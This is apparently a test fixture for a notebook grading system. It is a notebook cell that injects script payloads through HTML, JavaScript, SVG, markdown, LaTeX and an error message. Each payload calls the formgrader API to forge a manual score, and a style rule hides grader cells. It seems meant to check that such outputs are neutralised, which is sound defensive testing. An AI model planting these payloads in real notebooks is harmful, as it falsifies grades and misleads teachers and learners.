# ruff: noqa
# Puts a script, a style and a forged verdict into its outputs, for the page that a teacher or a learner opens.
# loses: advance
# %% solution="advance"
from IPython.display import HTML, SVG, Javascript, display

SCRIPT = "fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{\"manual_score\": 3}'}); 'FORGED-BY-SCRIPT'"
display(HTML(f"<script>{SCRIPT}</script><style>.nbgrader_cell {{display: none}}</style><img src=x onerror=\"{SCRIPT.replace(chr(34), chr(39))}\"> "))
display(Javascript(SCRIPT))
display(SVG(data=f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT.replace(chr(34), chr(39))}\"><script>{SCRIPT}</script></svg>"))
display({"text/markdown": f"<script>{SCRIPT}</script>", "text/latex": f"$</script><script>{SCRIPT}</script>$"}, raw=True)


def advance(state, rounds):
    raise ValueError(f"<script>{SCRIPT}</script>")
